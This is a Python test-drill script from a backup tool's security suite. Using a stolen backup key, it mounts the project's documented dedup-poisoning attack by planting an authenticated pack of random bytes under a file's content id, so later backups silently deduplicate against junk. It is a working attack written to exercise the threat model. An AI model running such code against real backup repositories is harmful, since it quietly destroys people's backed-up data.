# SPDX-License-Identifier: Apache-2.0
"""drill_poison.py - the dedup-poisoning attack of docs/THREATS.md, as a
stolen backup key can mount it (tests/e2e/drill.sh).

    python3 drill_poison.py REPO BACKUP_KEY FILE

Uploads into the local repository REPO a pack holding one data blob under
the id of FILE's content (FILE must be one chunk: smaller than the
repository's minimum chunk size) whose box authenticates but holds random
bytes, and an index file that points the id there.  Everything is made
with what a backup key holds (id_key, index_key, the repository's public
key from the config): a later backup of FILE deduplicates against the junk,
and only a reader with the restore key, which decrypts and recomputes the
id, can tell.  Needs python3-cryptography and libsodium.
"""
import ctypes
import hashlib
import hmac
import os
import struct
import sys

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.kdf.hkdf import HKDF

BLOB_DATA = 1


def main(repo, key_path, file_path):
    with open(key_path, "rb") as f:
        key = f.read()
    id_key, index_key = key[76:108], key[108:140]
    cfg_dir = os.path.join(repo, "config")
    with open(os.path.join(cfg_dir, os.listdir(cfg_dir)[0]), "rb") as f:
        pk = f.read()[44:76]
    with open(file_path, "rb") as f:
        content = f.read()
    blob_id = hmac.new(id_key, content, hashlib.sha256).digest()

    sodium = ctypes.CDLL("libsodium.so.23")
    sodium.sodium_init()

    def hkdf(salt, info):
        return HKDF(algorithm=hashes.SHA256(), length=32, salt=salt, info=info).derive(index_key)

    def seal(k, plain, aad):
        nonce = os.urandom(12)
        return nonce + AESGCM(k).encrypt(nonce, plain, aad)

    data_key, salt = os.urandom(32), os.urandom(32)
    sealed = ctypes.create_string_buffer(80)
    sodium.crypto_box_seal(sealed, data_key, ctypes.c_ulonglong(32), pk)
    header = b"KURAPACK\x01\0\0\0" + salt + sealed.raw
    junk = os.urandom(len(content))
    stored = seal(data_key, junk, bytes([BLOB_DATA]) + blob_id)
    entry = struct.pack("<BBH", BLOB_DATA, 0, 0) + blob_id + struct.pack(
        "<III", len(header), len(stored), len(junk))
    trailer = seal(hkdf(salt, b"kura pack trailer v1"), struct.pack("<I", 1) + entry, header)
    pack = header + stored + trailer + struct.pack("<I", len(trailer)) + b"KURAPEND"
    pack_name = hashlib.sha256(pack).hexdigest()
    put(os.path.join(repo, "data", pack_name[:2]), pack_name, pack)

    isalt = os.urandom(32)
    head = b"KURAINDX\x01\0\0\0" + isalt + struct.pack("<I", 1) + bytes.fromhex(pack_name)
    index = head + seal(hkdf(isalt, b"kura index v1"), struct.pack("<I", 1) +
                        struct.pack("<I", 0) + entry, head)
    put(os.path.join(repo, "index"), hashlib.sha256(index).hexdigest(), index)
    print(pack_name)


def put(directory, name, data):
    os.makedirs(directory, mode=0o700, exist_ok=True)
    path = os.path.join(directory, name)
    with open(path, "wb") as f:
        f.write(data)
    os.chmod(path, 0o400)


if __name__ == "__main__":
    main(*sys.argv[1:4])
